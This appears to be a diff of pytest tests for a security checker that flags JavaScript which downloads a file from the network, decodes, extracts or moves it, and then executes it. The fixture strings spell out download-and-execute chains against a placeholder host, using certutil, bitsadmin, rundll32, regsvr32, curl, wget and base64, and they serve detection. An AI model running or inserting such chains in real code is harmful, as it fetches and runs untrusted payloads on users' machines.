@@ -108,3 +108,71 @@ async function load() {
     assert "(line 4)" in finding.message
     assert "starts it (line 5)" in finding.message
     assert finding.line == 5
+
+
+DECODED = {
+    "certutil": (
+        "const p = process.env.LOCALAPPDATA + '\\\\acme\\\\a';"
+        " cp.exec('certutil -urlcache -f https://a.invalid/a ' + p + '.b64', () =>"
+        " cp.exec('certutil -decode ' + p + '.b64 ' + p + '.dll', () =>"
+        " cp.exec('rundll32 ' + p + '.dll,Start')));"
+    ),
+    "arguments": (
+        "const p = process.env.APPDATA + '\\\\a.txt', q = process.env.APPDATA + '\\\\a.dll';"
+        " cp.execFile('bitsadmin', ['/transfer', 'j', 'https://a.invalid/a', p], () =>"
+        " cp.execFile('certutil.exe', ['-decode', p, q], () =>"
+        " cp.execFile('regsvr32.exe', ['/s', q])));"
+    ),
+    "base64": (
+        "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
+        " cp.execSync('base64 -d /tmp/a.txt > /var/tmp/.run'); cp.spawn('sh', ['/var/tmp/.run']);"
+    ),
+    "two steps": (
+        "cp.execSync('wget -qO /tmp/a.gz https://a.invalid/s'); cp.execSync('gunzip /tmp/a.gz');"
+        " cp.execSync('mv /tmp/a ~/.local/bin/helper');"
+        " cp.spawn('~/.local/bin/helper', [], { detached: true });"
+    ),
+    "expand": (
+        "const d = os.tmpdir(); cp.execSync('curl -o ' + d + '/a.cab https://a.invalid/a.cab');"
+        " cp.execSync('expand ' + d + '/a.cab ' + d + '/a.exe'); cp.execFile(d + '/a.exe');"
+    ),
+}
+
+
+@pytest.mark.parametrize("source", DECODED.values(), ids=DECODED)
+def test_what_is_made_of_a_download_and_started_is_found(source: str) -> None:
+    """Other commands decode, extract or move the download first."""
+    assert worst(findings_of(CHECK, START + source), RULE) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s'); cp.spawn('sh', ['/opt/b.sh']);",
+        (
+            "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
+            " cp.execSync('base64 -d /tmp/b.txt > /tmp/b.sh'); cp.spawn('sh', ['/tmp/b.sh']);"
+        ),
+        (
+            "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
+            " cp.execSync('cp /tmp/a.txt /srv/a.txt; /usr/bin/sync'); cp.exec('/usr/bin/sync');"
+        ),
+        "cp.execFile('certutil', ['-dump', file]); cp.execFile('rundll32.exe', ['a.dll,Start']);",
+    ],
+)
+def test_a_file_that_is_not_the_download_is_not_found(source: str) -> None:
+    """Something else is decoded or started."""
+    assert findings_of(CHECK, START + source) == []
+
+
+def test_a_hidden_file_that_is_started_is_high() -> None:
+    """An own directory of a tool may be hidden; a program is not."""
+    source = (
+        "async function f() { const p = path.join(os.homedir(), '.cache', 'NAME');"
+        " fs.writeFileSync(p, Buffer.from(await (await fetch(url)).arrayBuffer()));"
+        " cp.execFile(p); }"
+    )
+    hidden = findings_of(CHECK, START + source.replace("NAME", ".init"))
+    assert worst(hidden, RULE) is Severity.HIGH
+    seen = findings_of(CHECK, START + source.replace("NAME", "server"))
+    assert worst(seen, RULE) is Severity.MEDIUM
